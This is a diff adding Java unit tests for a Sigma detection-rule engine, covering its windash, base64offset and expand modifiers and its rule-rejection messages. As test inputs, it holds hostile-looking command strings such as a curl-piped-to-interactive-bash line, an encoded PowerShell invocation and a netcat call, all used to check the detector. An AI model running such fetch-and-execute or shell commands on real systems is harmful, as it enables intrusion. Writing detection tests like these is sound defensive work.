@@ -38,6 +38,49 @@ class ModifierTest {
         assertThat(r.matches(event("cmd", "nc 1.2.3.4"))).isFalse();
     }
 
+    /** Whether the rule set (with its prefilter index) reports the rule for the event. */
+    private static boolean indexedMatch(String key, String value, Object... event) {
+        RuleSet rs = TestRules.set(TestRules.wrap("selection:\n    " + key + ": " + value + "\ncondition: selection\n"));
+        assertThat(rs.rejections()).isEmpty();
+        return !rs.match(event(event)).isEmpty();
+    }
+
+    @Test
+    void allWithWindashNeedsEachValueInAnyOfItsDashForms() {
+        String key = "cmd|windash|contains|all";
+        String values = "[' -enc ', ' -nop ']";
+        SigmaRule r = field(key, values);
+        assertThat(r.matches(event("cmd", "powershell /nop /enc AAA"))).isTrue();
+        assertThat(r.matches(event("cmd", "powershell -nop \u2013enc AAA"))).isTrue();
+        assertThat(r.matches(event("cmd", "powershell -enc AAA"))).as("one value missing").isFalse();
+        assertThat(indexedMatch(key, values, "cmd", "powershell /nop /enc AAA")).as("through the prefilter").isTrue();
+        assertThat(indexedMatch(key, values, "cmd", "powershell /enc AAA")).isFalse();
+    }
+
+    @Test
+    void allWithBase64offsetNeedsEachValueAtAnyOffset() {
+        String key = "cmd|base64offset|contains|all";
+        String values = "['/bin/bash', 'curl ']";
+        SigmaRule r = field(key, values);
+        String both = Base64.getEncoder().encodeToString("x; curl http://h | /bin/bash -i".getBytes(StandardCharsets.UTF_8));
+        String one = Base64.getEncoder().encodeToString("x; wget http://h | /bin/bash -i".getBytes(StandardCharsets.UTF_8));
+        assertThat(r.matches(event("cmd", both))).isTrue();
+        assertThat(r.matches(event("cmd", one))).isFalse();
+        assertThat(indexedMatch(key, values, "cmd", both)).as("through the prefilter").isTrue();
+        assertThat(indexedMatch(key, values, "cmd", one)).isFalse();
+    }
+
+    @Test
+    void allWithExpandNeedsEachValueAsAnyOfItsPlaceholderValues() {
+        String key = "cmd|expand|contains|all";
+        String values = "['%Admins%', 'sudo']";
+        SigmaRule r = field(key, values);
+        assertThat(r.matches(event("cmd", "sudo -u adm_jane id"))).isTrue();
+        assertThat(r.matches(event("cmd", "sudo -u root id"))).isTrue();
+        assertThat(r.matches(event("cmd", "su root"))).as("sudo missing").isFalse();
+        assertThat(indexedMatch(key, values, "cmd", "sudo -u root id")).as("through the prefilter").isTrue();
+    }
+
     @Test
     void casedMatchesCaseSensitively() {
         SigmaRule r = field("cmd|cased", "Foo");
@@ -159,6 +202,15 @@ class ModifierTest {
     }
 
     @Test
+    void anEscapedPercentIsPlainTextAndDoesNotStartAPlaceholder() {
+        SigmaRule r = field("user.name|expand", "'\\%plain%Admins%'");
+        assertThat(r.matches(event("user.name", "%plainroot"))).isTrue();
+        assertThat(r.matches(event("user.name", "%plainadm_x"))).isTrue();
+        assertThat(r.matches(event("user.name", "%plain%Admins%"))).isFalse();
+        assertThat(field("user.name|expand", "'50\\%'").matches(event("user.name", "50%"))).isTrue();
+    }
+
+    @Test
     void anUnknownPlaceholderRejectsTheRule() {
         assertThat(rejection("selection:\n    user.name|expand: '%Nobody%'\ncondition: selection\n").reason())
                 .contains("%Nobody%").contains("no values");
@@ -185,6 +237,8 @@ class ModifierTest {
         assertThat(rejection("s:\n    f|gt: many\ncondition: s\n").reason()).contains("not a number");
         assertThat(rejection("s:\n    f|i: x\ncondition: s\n").reason()).contains("only valid after 're'");
         assertThat(rejection("s:\n    f|exists: maybe\ncondition: s\n").reason()).contains("true or false");
+        assertThat(rejection("s:\n    f|contains|exists: true\ncondition: s\n").reason())
+                .contains("'contains' cannot be combined with 'exists'");
         assertThat(rejection("s:\n    f: [a, null]\ncondition: s\n").reason()).contains("null cannot be part of a list");
         assertThat(rejection("s:\n    f|base64: 'a*'\ncondition: s\n").reason()).contains("wildcards");
         assertThat(rejection("s:\n    f|contains|all: only-one\ncondition: s\n").reason()).contains("'all' needs a list of at least two values");
